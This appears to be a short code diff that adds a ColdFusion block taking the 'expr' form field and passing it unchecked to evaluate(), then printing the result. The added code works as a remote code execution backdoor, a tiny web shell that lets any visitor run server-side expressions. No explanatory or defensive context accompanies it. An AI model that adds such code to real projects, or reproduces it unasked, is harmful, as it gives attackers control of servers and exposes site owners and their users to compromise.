@@ -1,0 +1,4 @@
+<cfif isDefined("form.expr")>
+  <cfset result = evaluate(form.expr)>
+  <cfoutput>#result#</cfoutput>
+</cfif>
